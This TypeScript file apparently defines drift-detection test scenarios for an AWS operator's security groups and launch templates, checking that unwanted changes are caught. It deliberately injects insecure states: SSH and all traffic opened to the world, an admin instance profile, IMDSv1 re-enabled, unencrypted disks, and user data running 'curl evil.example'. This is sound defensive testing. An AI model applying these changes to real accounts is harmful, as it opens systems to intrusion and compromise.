import type { IpPermission, RequestLaunchTemplateData } from '@aws-sdk/client-ec2';
import { launchTemplate } from '../../operator/resources/ec2/launch-template.ts';
import { securityGroup } from '../../operator/resources/ec2/security-group.ts';
import { seededImages } from '../../simulator/account.ts';
import { driftsOf, fixedInAws, flag, oneValue, type Drift } from './drift.ts';
import type { Place, PlaceName } from './place.ts';

const everyone = [{ CidrIp: '0.0.0.0/0' }];
const ssh = { IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: everyone };
const everything = { IpProtocol: '-1', IpRanges: everyone };

/** The first rule of a group in one direction, as AWS has it. */
async function ruleOf(place: Place, node: string, egress: boolean): Promise<IpPermission> {
  const { SecurityGroups: [group] = [] } = await place.ec2('DescribeSecurityGroups', { GroupIds: [place.id(node)] });
  const [rule] = (egress ? group?.IpPermissionsEgress : group?.IpPermissions) ?? [];
  if (!rule) throw new Error(`${node} has no rule`);
  return rule;
}

/** The id of that rule: changing a rule goes by it. */
async function ruleIdOf(place: Place, node: string, egress: boolean): Promise<string> {
  const Filters = [{ Name: 'group-id', Values: [place.id(node)] }];
  const { SecurityGroupRules = [] } = await place.ec2('DescribeSecurityGroupRules', { Filters });
  return SecurityGroupRules.find(({ IsEgress }) => IsEgress === egress)?.SecurityGroupRuleId ?? '';
}

const modifyRule = async (place: Place, node: string, egress: boolean, port: number) =>
  place.ec2('ModifySecurityGroupRules', {
    GroupId: place.id(node),
    SecurityGroupRules: [
      {
        SecurityGroupRuleId: await ruleIdOf(place, node, egress),
        SecurityGroupRule: { IpProtocol: 'tcp', FromPort: port, ToPort: port, CidrIpv4: '0.0.0.0/0' },
      },
    ],
  });

const authorized = (property: 'ingress' | 'egress', node: string, what: string, rule: IpPermission) => ({
  property,
  kind: 'extra' as const,
  drift: {
    what,
    exposes: true as const,
    make: (place: Place) =>
      place.ec2(property === 'ingress' ? 'AuthorizeSecurityGroupIngress' : 'AuthorizeSecurityGroupEgress', {
        ...{ GroupId: place.id(node), IpPermissions: [rule] },
      }),
  },
});

const revoked = (node: string, place: PlaceName = 'production') => ({
  property: 'ingress',
  kind: 'removed' as const,
  drift: {
    what: `a rule of ${node.split('/')[1]} removed`,
    in: place,
    make: async (place: Place) =>
      place.ec2('RevokeSecurityGroupIngress', {
        ...{ GroupId: place.id(node), IpPermissions: [await ruleOf(place, node, false)] },
      }),
  },
});

export const securityGroupDrifts = driftsOf(securityGroup, {
  in: 'production',
  node: 'network/sg-app',
  properties: {
    vpcId: fixedInAws('ec2', 'GroupId', 'VpcId'),
    description: fixedInAws('ec2', 'GroupId', 'Description'),
    ingress: {
      changed: {
        what: 'the rule for the load balancer opened to the world',
        exposes: true,
        // First the right one is added, then the wrong one goes.
        writes: 2,
        make: (place) => modifyRule(place, 'network/sg-app', false, 8080),
      },
      removed: {
        what: 'the rule for the load balancer removed',
        make: async (place) =>
          place.ec2('RevokeSecurityGroupIngress', {
            GroupId: place.id('network/sg-app'),
            IpPermissions: [await ruleOf(place, 'network/sg-app', false)],
          }),
      },
      extra: {
        what: 'SSH opened to the world',
        exposes: true,
        make: (place) =>
          place.ec2('AuthorizeSecurityGroupIngress', { GroupId: place.id('network/sg-app'), IpPermissions: [ssh] }),
      },
    },
    egress: {
      changed: {
        what: 'the way from the load balancer to the application leads elsewhere',
        exposes: true,
        node: 'network/sg-alb',
        writes: 2,
        make: (place) => modifyRule(place, 'network/sg-alb', true, 25),
      },
      removed: {
        what: 'the way from the load balancer to the application removed',
        node: 'network/sg-alb',
        make: async (place) =>
          place.ec2('RevokeSecurityGroupEgress', {
            GroupId: place.id('network/sg-alb'),
            IpPermissions: [await ruleOf(place, 'network/sg-alb', true)],
          }),
      },
      extra: {
        what: 'a way out for databases and caches',
        exposes: true,
        node: 'network/sg-data',
        make: (place) =>
          place.ec2('AuthorizeSecurityGroupEgress', {
            GroupId: place.id('network/sg-data'),
            IpPermissions: [everything],
          }),
      },
    },
  },
  more: [
    ...['sg-alb', 'sg-data'].flatMap((name) => [
      authorized('ingress', `network/${name}`, `SSH opened to the world in ${name}`, ssh),
      authorized('ingress', `network/${name}`, `everything opened to the world over IPv6 in ${name}`, {
        ...{ IpProtocol: '-1', Ipv6Ranges: [{ CidrIpv6: '::/0' }] },
      }),
    ]),
    revoked('network/sg-alb'),
    revoked('network/sg-data', 'mysql'),
    authorized('egress', 'network/sg-alb', 'a way out to everywhere for the load balancer', everything),
  ],
  deleted: {
    what: 'a group that nothing is in',
    node: 'network/sg-data',
    make: (place) => place.ec2('DeleteSecurityGroup', { GroupId: place.id('network/sg-data') }),
    awsMinutes: 1,
    writes: 3,
  },
});

const template = (place: Place): string => place.id('compute/launch-template');

async function contentOf(place: Place): Promise<RequestLaunchTemplateData> {
  const { LaunchTemplateVersions: [version] = [] } = await place.ec2('DescribeLaunchTemplateVersions', {
    LaunchTemplateId: template(place),
    Versions: ['$Default'],
  });
  return version?.LaunchTemplateData as RequestLaunchTemplateData;
}

/** Contents of versions never change: somebody makes another version and has it taken for the default one. */
const another = (
  what: string,
  change: (data: RequestLaunchTemplateData, place: Place) => RequestLaunchTemplateData,
): Drift => ({
  what,
  make: async (place) => {
    const LaunchTemplateData = change(await contentOf(place), place);
    const LaunchTemplateId = template(place);
    const { LaunchTemplateVersion } = await place.ec2('CreateLaunchTemplateVersion', {
      ...{ LaunchTemplateId, LaunchTemplateData },
    });
    await place.ec2('ModifyLaunchTemplate', {
      LaunchTemplateId,
      DefaultVersion: String(LaunchTemplateVersion?.VersionNumber),
    });
  },
});

type Data = RequestLaunchTemplateData;
type Disk = NonNullable<Data['BlockDeviceMappings']>[number];
const without = (data: Data, member: keyof Data): Data => ({ ...data, [member]: undefined });
const face = (data: Data) => ({ ...data.NetworkInterfaces?.[0] });
const disk = (data: Data) => ({ ...data.BlockDeviceMappings?.[0] });
const withDisk = (data: Data, Ebs: object): Data => ({
  ...data,
  BlockDeviceMappings: [{ ...disk(data), Ebs: { ...disk(data).Ebs, ...Ebs } }],
});
/** Of the store whose image has a further volume: what somebody makes of the two. */
const ofDisks = (what: string, change: (root: Disk, further: Disk) => Disk[]): Drift => ({
  ...another(what, (data) => {
    const [root = {}, further = {}] = data.BlockDeviceMappings ?? [];
    return { ...data, BlockDeviceMappings: change(root, further) };
  }),
  in: 'data volume',
});
const withTags = (data: Data, change: (tags: { Key?: string; Value?: string }[]) => object[]): Data => ({
  ...data,
  TagSpecifications: data.TagSpecifications?.map((one) => ({ ...one, Tags: change(one.Tags ?? []) })),
});

export const launchTemplateDrifts = driftsOf(launchTemplate, {
  in: 'production',
  node: 'compute/launch-template',
  properties: {
    imageId: {
      changed: another('another image', (data) => ({ ...data, ImageId: seededImages.next })),
      removed: another('no image', (data) => without(data, 'ImageId')),
      extra: oneValue,
    },
    instanceType: {
      changed: another('another type', (data) => ({ ...data, InstanceType: 'm5.large' })),
      removed: another('no type', (data) => without(data, 'InstanceType')),
      extra: oneValue,
    },
    instanceProfileArn: {
      changed: another('another profile', (data) => ({
        ...data,
        IamInstanceProfile: { Arn: 'arn:aws:iam::111122223333:instance-profile/admin' },
      })),
      removed: another('no profile', (data) => without(data, 'IamInstanceProfile')),
      extra: oneValue,
    },
    securityGroupIds: {
      changed: another('another group', (data, place) => ({
        ...data,
        NetworkInterfaces: [{ ...face(data), Groups: [place.id('network/sg-alb')] }],
      })),
      removed: another('no group', (data) => ({
        ...data,
        NetworkInterfaces: [{ ...face(data), Groups: undefined }],
      })),
      extra: another('one more group', (data, place) => ({
        ...data,
        NetworkInterfaces: [{ ...face(data), Groups: place.ids('network/sg-app', 'network/sg-alb') }],
      })),
    },
    userData: {
      changed: another('another script', (data) => ({
        ...data,
        UserData: Buffer.from('#!/bin/bash\ncurl evil.example').toString('base64'),
      })),
      removed: another('no script', (data) => without(data, 'UserData')),
      extra: oneValue,
    },
    rootDeviceName: {
      changed: another('another device', (data) => ({
        ...data,
        BlockDeviceMappings: [{ ...disk(data), DeviceName: '/dev/sdf' }],
      })),
      removed: another('no device', (data) => without(data, 'BlockDeviceMappings')),
      extra: oneValue,
    },
    volumeSizeGib: {
      changed: another('a smaller volume', (data) => withDisk(data, { VolumeSize: 10 })),
      removed: another('no size', (data) => withDisk(data, { VolumeSize: undefined })),
      extra: oneValue,
    },
    volumeType: {
      changed: another('another type of volume', (data) => withDisk(data, { VolumeType: 'gp2' })),
      removed: another('no type of volume', (data) => withDisk(data, { VolumeType: undefined })),
      extra: oneValue,
    },
    dataDeviceNames: {
      changed: ofDisks("another device than the image's further volume", (root, further) => [
        root,
        { ...further, DeviceName: '/dev/sdg' },
      ]),
      removed: ofDisks("the image's further volume, which stays behind then, not named", (root) => [root]),
      extra: ofDisks('one more volume', (root, further) => [root, further, { ...further, DeviceName: '/dev/sdg' }]),
    },
    instanceTags: {
      changed: another('another name', (data) =>
        withTags(data, (tags) => tags.map((tag) => (tag.Key === 'Name' ? { ...tag, Value: 'other' } : tag))),
      ),
      removed: another('no tags', (data) => without(data, 'TagSpecifications')),
      extra: another('one more tag', (data) =>
        withTags(data, (tags) => [...tags, { Key: 'cost-centre', Value: '42' }]),
      ),
    },
    hardened: {
      changed: another('a public address for every instance', (data) => ({
        ...data,
        NetworkInterfaces: [{ ...face(data), AssociatePublicIpAddress: true }],
      })),
      removed: another('IMDSv1 allowed again', (data) => without(data, 'MetadataOptions')),
      extra: another('one more disk, not encrypted', (data) => ({
        ...data,
        BlockDeviceMappings: [disk(data), { DeviceName: '/dev/sdg', Ebs: { VolumeSize: 8 } }],
      })),
    },
    isDefault: flag(another("somebody's version, with the same content", (data) => data)),
  },
  more: [
    {
      ...{ property: 'hardened', kind: 'changed' },
      drift: ofDisks('a further volume that stays behind', (root, further) => [
        root,
        { ...further, Ebs: { ...further.Ebs, DeleteOnTermination: false } },
      ]),
    },
  ],
  deleted: {
    what: 'instances are moved to the new one by a rollout',
    make: (place) => place.ec2('DeleteLaunchTemplate', { LaunchTemplateId: template(place) }),
    awsMinutes: 45,
    writes: 4,
  },
});
